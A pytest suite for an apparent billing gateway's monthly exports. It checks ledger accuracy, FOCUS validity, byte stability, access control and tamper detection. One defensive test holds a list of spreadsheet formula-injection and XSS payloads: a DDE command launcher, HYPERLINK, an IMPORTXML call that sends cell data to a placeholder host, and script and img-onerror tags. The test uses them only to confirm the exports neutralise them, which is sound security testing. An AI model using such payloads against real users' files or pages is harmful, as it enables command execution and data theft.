"""A month's files: equal to the ledger to the last picodollar, the same bytes for ever, valid FOCUS, and inert."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import shutil
import signal
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from support import finance_oracle as oracle
from support.downloads import FOCUS_PYTHON, download, get, official_failures, toolkit
from support.focus_rules import faults
from support.month import DAY, INSERT, Month, credit, entries, fill, lay_out, roll_up
from support.options import Run
from support.tollgate import Gateway, gateway

FEW, MILLION = 20_000, 1_000_000
BILLING = "billing: { issuer: Example AG, account: { id: acct_main, name: Main account } }\n"


@dataclass
class Books:
    server: Gateway
    month: Month
    ledger: oracle.Ledger

    def file(self, format: str, **query: Any) -> bytes:
        return download(self.server, self.month.name, format, **query)

    def manifest(self, **query: Any) -> dict[str, Any]:
        tail = "&".join(f"{name}={value}" for name, value in query.items())
        answer = get(self.server, f"/exports/{self.month.name}/manifest?{tail}")
        assert answer.status == 200, answer
        return dict(json.loads(answer.body))


@pytest.fixture(scope="module")
def books(run: Run) -> Iterator[Books]:
    """A month of five tenants and four models with corrections, credits and several meters, not closed yet."""
    with gateway(run.binary, BILLING) as server:
        month = lay_out(server)
        server.stop()
        fill(server, month, MILLION if os.environ.get("TOLLGATE_MILLION") else FEW, run.dice("exports"))
        credit(server, month.tenants[0], 5 * 10**12 + 1, "prepaid", month.start + 3 * DAY, "a")
        credit(server, month.tenants[1], 10**9, "prepaid", month.start + 9 * DAY, "b")
        credit(server, month.tenants[2], 2 * 10**12, "goodwill", month.start + 9 * DAY + 5, "c")
        server.start()
        yield Books(server, month, oracle.Ledger(server.database, month.name))


@pytest.fixture(scope="module")
def closed(books: Books) -> Books:
    """The same, closed."""
    books.server.admin.ok("POST", f"/periods/{books.month.name}/close", {"grace": "0s"})
    for _ in range(600):
        if books.server.admin.get(f"/periods/{books.month.name}")["status"] == "closed":
            return books
        threading.Event().wait(0.1)
    raise AssertionError("the month did not close")


# What the files say


def test_every_file_equals_the_ledger_to_the_last_picodollar(books: Books) -> None:
    rows = oracle.table(books.file("csv"))
    oracle.check_csv(rows, books.ledger)
    oracle.check_csv(oracle.table(books.file("csv", group_by="key")), books.ledger)
    oracle.check_focus(oracle.table(books.file("focus-1.2")), books.ledger)
    oracle.check_focus(oracle.table(books.file("focus-1.4")), books.ledger)
    oracle.check_lines(books.file("jsonl"), books.ledger)
    oracle.check_manifest(books.manifest(), books.ledger)


def test_the_sum_of_the_files_is_that_of_the_roll_ups(books: Books) -> None:
    assert oracle.nonzero(books.ledger.rolled) == oracle.nonzero(books.ledger.cost)


def test_the_operators_view_has_what_providers_charge(books: Books) -> None:
    rows = oracle.table(books.file("csv", view="upstream"))
    assert sum(oracle.pico(row["upstream_cost"]) for row in rows) == books.ledger.upstream
    assert sum(oracle.pico(row["cost"]) for row in rows) == books.ledger.total
    focus = oracle.table(books.file("focus-1.2", view="upstream"))
    assert sum(oracle.pico(row["BilledCost"]) for row in focus) == books.ledger.upstream
    assert {row["ProviderName"] for row in focus} >= {"alpha", "beta"}
    assert faults(focus, "1.2") == []


def test_what_providers_charge_is_in_no_tenants_file(books: Books) -> None:
    tenant = books.month.tenants[0].id
    for format in ("csv", "jsonl", "focus-1.2", "focus-1.4", "statement"):
        text = books.file(format, tenant_id=tenant).decode().lower().replace("_", "")
        assert "upstreamcost" not in text, format


def test_a_tenants_file_has_its_rows_and_no_others(books: Books) -> None:
    tenant = books.month.tenants[1]
    rows = oracle.table(books.file("csv", tenant_id=tenant.id))
    whole = [row for row in oracle.table(books.file("csv")) if row["tenant_id"] == tenant.id]
    assert rows == whole and rows
    lines = books.file("jsonl", tenant_id=tenant.id).decode().splitlines()
    assert {json.loads(line)["tenant_id"] for line in lines} == {tenant.id}
    statement = books.file("statement", tenant_id=tenant.id).decode()
    assert tenant.name in statement and books.month.tenants[2].name not in statement


def test_a_tag_picks_tenants_and_keys(books: Books) -> None:
    rows = oracle.table(books.file("csv", tag="cost_center:1"))
    assert {row["tenant_id"] for row in rows} == {books.month.tenants[place].id for place in (1, 3)}
    by_key = oracle.table(books.file("csv", tag="team:web", group_by="key"))
    assert {row["key"] for row in by_key} == {"web"}
    both = [oracle.table(books.file("csv", tag=f"team:{team}")) for team in ("web", "batch")]
    keyless = oracle.table(books.file("csv"))
    tagged = sum(oracle.pico(row["cost"]) for rows in both for row in rows)
    whole = sum(oracle.pico(row["cost"]) for row in keyless)
    by_hand = sum(oracle.pico(row["cost"]) for row in keyless if row["corrects_period"] and not row["model"])
    assert tagged == whole - by_hand


def test_prepaid_money_is_drawn_before_anything_is_billed(books: Books) -> None:
    rows = oracle.table(books.file("csv"))
    for place, paid in ((0, 5 * 10**12 + 1), (1, 10**9)):
        own = [row for row in rows if row["tenant_id"] == books.month.tenants[place].id]
        spent = sum(oracle.pico(row["cost"]) for row in own)
        billed = sum(oracle.pico(row["billed"]) for row in own if row["kind"] != "purchase")
        assert billed == spent - min(paid, spent)
        assert [oracle.pico(row["billed"]) for row in own if row["kind"] == "purchase"] == [paid]
    goodwill = [row for row in rows if row["kind"] == "credit"]
    assert [oracle.pico(row["billed"]) for row in goodwill] == [-2 * 10**12]


def test_excel_gets_a_mark_and_on_request_commas(books: Books) -> None:
    plain = oracle.table(books.file("csv"))
    marked = books.file("csv", profile="excel")
    assert marked.startswith(b"\xef\xbb\xbf") and marked[3:] == books.file("csv")
    comma = oracle.table(books.file("csv", profile="excel", decimal="comma"), delimiter=";")
    assert [row["cost"].replace(",", ".") for row in comma] == [row["cost"] for row in plain]
    assert any("," in row["cost"] for row in comma) and not any("." in row["cost"] for row in comma)


def test_gzip_is_the_same_file_smaller(books: Books) -> None:
    path = f"/exports/{books.month.name}?format=jsonl"
    answer = get(books.server, path, accept_encoding="gzip")
    assert answer.headers["content-encoding"] == "gzip" and answer.headers["vary"] == "accept-encoding"
    assert gzip.decompress(answer.body) == books.file("jsonl")
    assert len(answer.body) * 3 < len(books.file("jsonl"))
    for refused in ("identity", "gzip;q=0", "gzip; q=0.0"):
        assert "content-encoding" not in get(books.server, path, accept_encoding=refused).headers


# FOCUS


def check_focus_rules(books: Books) -> None:
    for version in ("1.2", "1.4"):
        rows = oracle.table(books.file(f"focus-{version}"))
        assert faults(rows, version) == []
        assert {row["ChargeCategory"] for row in rows} == {"Usage", "Purchase", "Credit", "Adjustment"}
        assert any(row["ChargeClass"] == "Correction" for row in rows)


def check_official(books: Books, folder: Path, contradiction: str) -> None:
    if not FOCUS_PYTHON.exists():
        print("SKIPPED official FOCUS gate", flush=True)
        return
    path = folder / "focus.csv"
    path.write_bytes(books.file("focus-1.2"))
    # Two rules contradict each other, so every file breaks exactly one of them.
    assert official_failures(path) == {contradiction}


def check_toolkit(books: Books, folder: Path) -> None:
    for dataset in ("cost-and-usage", "billing-period", "invoice-detail"):
        path = folder / f"{dataset}.csv"
        path.write_bytes(books.file("focus-1.4", file=dataset))
        if len(path.read_bytes().splitlines()) > 1:
            toolkit("validate", "--dataset", dataset, str(path))
    arguments = [f"--{dataset}={folder / dataset}.csv" for dataset in ("cost-and-usage", "billing-period", "invoice-detail")]
    toolkit("validate-bundle", *arguments)


def test_an_open_month_is_valid_focus(books: Books, tmp_path: Path) -> None:
    check_focus_rules(books)
    check_official(books, tmp_path, "InvoiceId-C-005-C")


def test_a_wrong_file_is_caught(books: Books) -> None:
    """The rules of our own fire: each of these broken files has a fault."""
    rows = oracle.table(books.file("focus-1.2"))
    usage = next(row for row in rows if row["ChargeCategory"] == "Usage")
    for name, value in (
        ("ListCost", "9999.5"), ("ListUnitPrice", ""), ("ChargeCategory", "Usge"), ("ChargePeriodStart", "2026-10-01"),
        ("SkuId", ""), ("ConsumedQuantity", "12"), ("BillingPeriodStart", usage["ChargePeriodStart"][:8] + "02T00:00:00Z"),
    ):
        assert faults([usage | {name: value}], "1.2"), name


def test_a_closed_month_is_valid_focus(closed: Books, tmp_path: Path) -> None:
    check_focus_rules(closed)
    check_official(closed, tmp_path, "InvoiceId-C-004-C")
    check_toolkit(closed, tmp_path)
    invoices = oracle.table(closed.file("focus-1.4", file="invoice-detail"))
    charged: dict[str, int] = {}
    for row in oracle.table(closed.file("focus-1.4")):
        charged[row["InvoiceDetailId"]] = charged.get(row["InvoiceDetailId"], 0) + oracle.pico(row["BilledCost"])
    assert {row["InvoiceDetailId"]: oracle.pico(row["BilledCost"]) for row in invoices} == charged
    assert sum(charged.values()) == sum(oracle.pico(row["billed"]) for row in oracle.table(closed.file("csv")))
    [period] = oracle.table(closed.file("focus-1.4", file="billing-period"))
    assert period["BillingPeriodStatus"] == "Closed"


# The same bytes


FILES: tuple[tuple[str, dict[str, str]], ...] = (
    ("csv", {}), ("csv", {"group_by": "key"}), ("csv", {"profile": "excel"}), ("jsonl", {}), ("focus-1.2", {}),
    ("focus-1.4", {}), ("focus-1.4", {"file": "billing-period"}), ("focus-1.4", {"file": "invoice-detail"}),
    ("statement", {}), ("xlsx", {}), ("csv", {"tag": "cost_center:1"}), ("csv", {"view": "upstream"}),
)


def digests(books: Books) -> list[str]:
    files = [hashlib.sha256(books.file(format, **query)).hexdigest() for format, query in FILES]
    return [*files, hashlib.sha256(json.dumps(books.manifest()).encode()).hexdigest()]


def test_a_closed_month_is_the_same_bytes_for_ever(closed: Books, run: Run) -> None:
    first = digests(closed)
    assert digests(closed) == first
    assert closed.server.stop() == 0
    later = Month(**vars(closed.month))
    later.name, later.start, later.end = month_after(closed.month.name), closed.month.end, closed.month.end + DAY
    fill(closed.server, later, 500, run.dice("later"), corrected=3)
    closed.server.start()
    tenant = closed.month.tenants[0].id
    closed.server.admin.ok("PATCH", f"/tenants/{tenant}", {"name": "renamed", "tags": {"other": "tag"}})
    assert digests(closed) == first


def month_after(name: str) -> str:
    year, month = map(int, name.split("-"))
    return f"{year + month // 12}-{month % 12 + 1:02}"


PAYLOADS = [
    lead + text
    for lead in ("=", "+", "-", "@", "\t=", "\r=", " =", "\ufeff=", "\uff1d", "\uff0b")
    for text in (
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/\",\"y\")", "SUM(1,2)*cmd", "DDE(\"a\";\"b\")", "A1;B1", "2+5,3",
        "IMPORTXML(CONCAT(\"http://x/\",A1))", "\n=2", "<script>alert(1)</script>", "&quot;'\"><img src=x onerror=y>", "WEBSERVICE(1)",
        "@SUM(1)", "-2+3", "+4", "'=1", "\"=1\"", "`id`", "{=1}", "0x1",
    )
]


def is_formula(text: str) -> bool:
    return text.lstrip(" \t\r\n\ufeff")[:1] in tuple("=+-@\uff1d\uff0b") if text else False


def test_two_hundred_payloads_stay_inert_in_every_format(run: Run, tmp_path: Path) -> None:
    """The Admin API refuses such names, so they are put into the database behind its back."""
    import openpyxl

    assert len(set(PAYLOADS)) == 200
    with gateway(run.binary) as server:
        refused = [server.admin.send("POST", "/tenants", {"name": name}).status for name in PAYLOADS if is_formula(name)]
        assert set(refused) == {400}
        month = lay_out(server, tenants=1)
        server.stop()
        with closing(sqlite3.connect(server.database)) as db:
            db.execute("UPDATE tenants SET name = ?, tags = ?", (PAYLOADS[0], json.dumps({name: name for name in PAYLOADS})))
            db.execute("UPDATE api_keys SET name = ?", (PAYLOADS[1],))
            rows = []
            for row, payload in zip(entries(month, 400, run.dice("payloads")), PAYLOADS * 2, strict=False):
                rows.append((*row[:5], payload, payload, payload, *row[8:]))
            db.executemany(INSERT, ((1 + place, *row) for place, row in enumerate(rows)))
            roll_up(db)
            db.commit()
        server.start()
        numbers = {"requests", "units", "estimated_units", "list_unit_price", "unit_price", "list_cost", "cost", "billed"}
        for format, query in (("csv", {"group_by": "key"}), ("csv", {"view": "upstream"}), ("focus-1.2", {}), ("focus-1.4", {})):
            found = oracle.table(download(server, month.name, format, **query))
            assert len(found) >= 200
            for row in found:
                for name, cell in row.items():
                    numeric = name in numbers or name.endswith(("Cost", "_cost", "Price", "Quantity", "Count"))
                    assert numeric or not is_formula(cell), (format, name, cell)
        for line in download(server, month.name, "jsonl").splitlines():
            json.loads(line)
        page = download(server, month.name, "statement").decode()
        assert "<script>" not in page and "<img" not in page and "&lt;script&gt;" in page
        path = tmp_path / "payloads.xlsx"
        path.write_bytes(download(server, month.name, "xlsx"))
        for sheet in openpyxl.load_workbook(path):
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value != "")


def test_a_file_that_was_begun_ends_where_it_began(books: Books) -> None:
    """`through` fixes the last entry, so that files of a month that still takes entries fit their manifest."""
    manifest = books.manifest()
    sequence = manifest["ledger_sequence"]
    for file in manifest["files"]:
        query = {"file": file["file"]} if "file" in file else {}
        data = books.file(file["format"], through=sequence, **query)
        assert (len(data), hashlib.sha256(data).hexdigest()) == (file["bytes"], file["sha256"]), file
    half = oracle.table(books.file("csv", through=sequence // 2))
    if manifest["status"] != "closed":
        assert sum(oracle.pico(row["cost"]) for row in half) < books.ledger.total


# Who may, and what is written down


def test_finance_downloads_and_each_download_is_audited(books: Books) -> None:
    admin = books.server.admin
    finance = admin.ok("POST", "/admin-keys", {"name": "books", "role": "finance"})
    viewer = admin.ok("POST", "/admin-keys", {"name": "eyes", "role": "viewer"})
    path = f"/exports/{books.month.name}?format=csv&tag=team:web"
    assert get(books.server, path, viewer["key"]).status == 403
    answer = get(books.server, path, finance["key"])
    assert answer.status == 200
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="tollgate-{books.month.name}-csv-tag-team-web.csv"')
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    [record] = [row for row in admin.rows("/audit-log?action=export.download") if row["actor"] == finance["id"]]
    assert record["subject"] == books.month.name
    assert record["after"] == {"format": "csv", "tag": "team:web"}


def test_what_makes_no_sense_is_refused(books: Books) -> None:
    for tail, status in (
        ("?format=pdf", 400), ("?format=csv&file=invoice-detail", 400), ("?format=jsonl&profile=excel", 400),
        ("?format=xlsx&view=upstream", 400), ("?group_by=model", 400), ("?tenant_id=ten_none", 400), ("?tag=:x", 400),
        ("?format=csv&format=csv", 400), ("?through=x", 400), ("?nothing=1", 400),
    ):
        assert get(books.server, f"/exports/{books.month.name}{tail}").status == status, tail
    for period in ("2026-13", "2100-01", "26-10", "latest"):
        assert get(books.server, f"/exports/{period}").status == 404, period


# Spreadsheets


def test_the_workbook_has_the_right_types(books: Books, tmp_path: Path) -> None:
    from datetime import datetime

    import openpyxl

    path = tmp_path / "month.xlsx"
    path.write_bytes(books.file("xlsx"))
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Tenants", "Models", "Daily", "Corrections", "Manifest"]
    for sheet in book:
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref, sheet.title
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    rows = oracle.table(books.file("csv"))
    daily = list(book["Daily"].iter_rows(min_row=2, values_only=True))
    heads = [cell.value for cell in book["Daily"][1]]
    assert len(daily) == len(rows)
    for row, cells in zip(rows, daily, strict=True):
        found = dict(zip(heads, cells, strict=True))
        assert isinstance(found["date"], datetime) and found["date"].date().isoformat() == row["date"]
        assert found["cost_exact"] == row["cost"] and isinstance(found["cost"], int | float)
        assert found["tenant_id"] == row["tenant_id"] and isinstance(found["requests"], int)
    totals = {row[0]: row for row in book["Tenants"].iter_rows(min_row=2, values_only=True)}
    assert {name: oracle.pico(row[7]) for name, row in totals.items()} == dict(books.ledger.cost)
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert oracle.pico(summary["cost"]) == books.ledger.total
    corrected = sum(oracle.pico(row[15]) for row in book["Corrections"].iter_rows(min_row=2, values_only=True))
    assert corrected == sum(books.ledger.corrections.values())


# Files on disk


def test_the_command_line_saves_and_checks_files(closed: Books, tmp_path: Path) -> None:
    saved = closed.server.run("export", "fetch", closed.month.name, "--directory", str(tmp_path), "--output", "json")
    assert saved.returncode == 0, saved.stderr
    names = {row["name"] for row in json.loads(saved.stdout)["data"]}
    month = closed.month.name
    assert {f"tollgate-{month}-csv.csv", f"tollgate-{month}-jsonl.jsonl", f"tollgate-{month}-xlsx.xlsx"} <= names
    assert not list(tmp_path.glob("*.part"))
    check = closed.server.run("export", "verify", str(tmp_path))
    assert check.returncode == 0 and check.stdout.startswith("ok: 1 manifest"), check


def test_one_changed_byte_is_found(closed: Books, tmp_path: Path, run: Run) -> None:
    folder = tmp_path / "whole"
    assert closed.server.run("export", "fetch", closed.month.name, "--directory", str(folder)).returncode == 0
    dice = run.dice("byte")
    for path in sorted(folder.iterdir()):
        if path.suffix == ".xlsx":
            continue
        copy = tmp_path / "copy"
        shutil.copytree(folder, copy)
        data = bytearray((copy / path.name).read_bytes())
        place = dice.randrange(len(data))
        data[place] ^= 1
        (copy / path.name).write_bytes(data)
        done = closed.server.run("export", "verify", str(copy))
        assert done.returncode == 1 and done.stdout, (path.name, place, done)
        shutil.rmtree(copy)
    (folder / f"tollgate-{closed.month.name}-csv.csv").unlink()
    assert closed.server.run("export", "verify", str(folder)).returncode == 1
    assert closed.server.run("export", "verify", "--partial", str(folder)).returncode == 0


def test_a_download_ends_with_the_server_and_says_so(books: Books, tmp_path: Path) -> None:
    """kill -9 in the middle: no file is left that looks whole, and the next start serves the same bytes."""
    whole = books.file("jsonl")
    for delay in (0.02, 0.08, 0.2):
        server = books.server
        killer = threading.Timer(delay, lambda: os.kill(server.child.pid, signal.SIGKILL))  # type: ignore[union-attr]
        killer.start()
        done = server.run("export", "fetch", books.month.name, "--format", "jsonl", "--directory", str(tmp_path))
        killer.join()
        server.kill()
        left = [path.name for path in tmp_path.iterdir()]
        assert not [name for name in left if name.endswith(".part")], left
        saved = tmp_path / f"tollgate-{books.month.name}-jsonl.jsonl"
        assert done.returncode != 0 or saved.read_bytes() == whole
        server.start()
    assert books.file("jsonl") == whole
